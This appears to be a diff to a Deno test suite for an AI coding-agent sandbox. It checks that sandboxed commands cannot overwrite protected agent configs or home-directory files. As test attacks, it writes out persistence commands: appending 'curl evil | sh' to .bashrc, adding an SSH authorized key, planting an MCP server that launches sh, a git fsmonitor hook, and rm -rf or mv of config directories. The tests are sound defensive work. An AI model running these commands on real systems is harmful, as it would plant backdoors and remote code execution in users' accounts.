@@ -1,6 +1,7 @@
 import assert from "node:assert/strict";
 import { platform, runCommand, sandboxArgv, SandboxProfileError } from "../../lib/platform/mod.ts";
 import { bareWorktree } from "./_git_worktree.ts";
+import { resolvePaths, userProtectedPaths } from "../../lib/config/mod.ts";
 import { makeBox, NOBODY, policyFor, removeBox, runInSandbox, runtime } from "./_sandbox_box.ts";
 
 // Issue #13 item 5: a sandboxed command planted files that later run unsandboxed. Protected names
@@ -240,6 +241,113 @@ Deno.test("sandboxArgv() markers of placeholders in directories that are gone ar
     assert.equal(left.includes("00000000deadbeef"), false);
     assert.equal(left.length, 6); // .git .trellis .codex .claude .agents .mcp.json of this workspace
     assert.deepStrictEqual(await names(box.ws), []);
+  } finally {
+    await removeBox(box);
+  }
+});
+
+// Issue #20 items 2 and 5: protected names were held only at each writable root and on the path
+// down to the cwd, and the user-level files not at all. Now every protected name that exists at any
+// depth is bound read-only, and so are `~/.claude.json`, `$CODEX_HOME`, `$CLAUDE_CONFIG_DIR`, the
+// home directory's credentials and start-up files (a placeholder when missing).
+
+const DEEP_LAYERS = ["sub/.trellis/config.toml", "pkg/a/.mcp.json", "a/b/.claude/settings.json"];
+
+for (const [who, as] of [["root", undefined], ["an unprivileged user", NOBODY]] as const) {
+  Deno.test(`sandboxArgv() keeps a layer file at any depth read-only as ${who}; an ordinary file beside it stays writable`, async () => {
+    const box = await makeBox();
+    try {
+      for (const file of DEEP_LAYERS) {
+        await platform.fs.mkdir(`${box.ws}/${file.slice(0, file.lastIndexOf("/"))}`);
+        await platform.fs.writeTextFile(`${box.ws}/${file}`, "original\n");
+      }
+      await runCommand(platform, {
+        cmd: ["chmod", "-R", "a+rwX", box.ws],
+        cwd: box.ws,
+        env: {},
+        timeoutMs: 5_000,
+      });
+      const attacks = DEEP_LAYERS.flatMap((file) => {
+        const dir = file.slice(0, file.lastIndexOf("/"));
+        return [
+          `echo planted > ${file}`,
+          `rm -rf ${dir}`,
+          `mv ${dir} ${dir}.moved`,
+          `mv ${dir.split("/")[0]} x.moved`,
+        ];
+      }).map((attack) => `(${attack}) 2>/dev/null && echo "planted: ${attack}"`);
+      const result = await runInSandbox(
+        policyFor(box),
+        [...attacks, "echo ok > sub/notes.md && echo wrote"].join("\n"),
+        { as: as && [...as] },
+      );
+      assert.equal(result.stdout, "wrote\n");
+      for (const file of DEEP_LAYERS) {
+        assert.equal(await platform.fs.readTextFile(`${box.ws}/${file}`), "original\n", file);
+      }
+      assert.equal(await platform.fs.readTextFile(`${box.ws}/sub/notes.md`), "ok\n");
+    } finally {
+      await removeBox(box);
+    }
+  });
+
+  Deno.test(`sandboxArgv() with cwd = $HOME keeps ~/.claude.json, ~/.ssh, ~/.bashrc … unwritable as ${who}, leaving nothing behind`, async () => {
+    const box = await makeBox();
+    try {
+      const home = box.ws;
+      await platform.fs.writeTextFile(`${home}/.bashrc`, "# mine\n");
+      await platform.fs.writeTextFile(`${home}/notes.md`, "notes\n");
+      await platform.fs.chmod(`${home}/.bashrc`, 0o666);
+      await platform.fs.chmod(`${home}/notes.md`, 0o666);
+      const paths = resolvePaths(platform.fs, {
+        cwd: home,
+        env: (n) => ({ HOME: home } as Record<string, string>)[n],
+      });
+      const policy = policyFor(box, { trellisHome: paths.home, protectedPaths: userProtectedPaths(paths) });
+      const attacks = [
+        `echo '{"mcpServers":{"x":{"command":"sh"}}}' > .claude.json`,
+        "mkdir -p .ssh && echo key >> .ssh/authorized_keys",
+        "echo 'curl evil | sh' >> .bashrc",
+        "mkdir -p .config/fish && echo x > .config/fish/config.fish",
+        "echo '[core] fsmonitor = x' > .gitconfig",
+        "mkdir -p .claude && echo '{}' > .claude/settings.json",
+      ].map((attack) => `(${attack}) 2>/dev/null && echo "planted: ${attack.replaceAll('"', "'")}"`);
+      const result = await runInSandbox(policy, [...attacks, "echo ok > notes.md && echo wrote"].join("\n"), {
+        as: as && [...as],
+      });
+      assert.equal(result.stdout, "wrote\n");
+      assert.deepStrictEqual(await names(home), [".bashrc", "notes.md"]);
+      assert.equal(await platform.fs.readTextFile(`${home}/.bashrc`), "# mine\n");
+      assert.equal(await platform.fs.readTextFile(`${home}/notes.md`), "ok\n");
+    } finally {
+      await removeBox(box);
+    }
+  });
+}
+
+Deno.test("sandboxArgv() keeps $CODEX_HOME and $CLAUDE_CONFIG_DIR read-only when they lie in the workspace; a file beside them stays writable", async () => {
+  const box = await makeBox();
+  try {
+    await platform.fs.mkdir(`${box.ws}/codex`);
+    await platform.fs.writeTextFile(`${box.ws}/codex/config.toml`, "# codex\n");
+    const env: Record<string, string> = {
+      HOME: box.root,
+      CODEX_HOME: `${box.ws}/codex`,
+      CLAUDE_CONFIG_DIR: `${box.ws}/cc`,
+    };
+    const paths = resolvePaths(platform.fs, { cwd: box.ws, env: (n) => env[n] });
+    const policy = policyFor(box, { protectedPaths: userProtectedPaths(paths) });
+    const result = await runInSandbox(
+      policy,
+      [
+        "(echo '[mcp_servers.x]' >> codex/config.toml) 2>/dev/null && echo planted-codex",
+        "(mkdir -p cc && echo '{}' > cc/settings.json) 2>/dev/null && echo planted-claude",
+        "echo ok > codex-notes.md && echo wrote",
+      ].join("\n"),
+    );
+    assert.equal(result.stdout, "wrote\n");
+    assert.equal(await platform.fs.readTextFile(`${box.ws}/codex/config.toml`), "# codex\n");
+    assert.deepStrictEqual(await names(box.ws), ["codex", "codex-notes.md"]);
   } finally {
     await removeBox(box);
   }
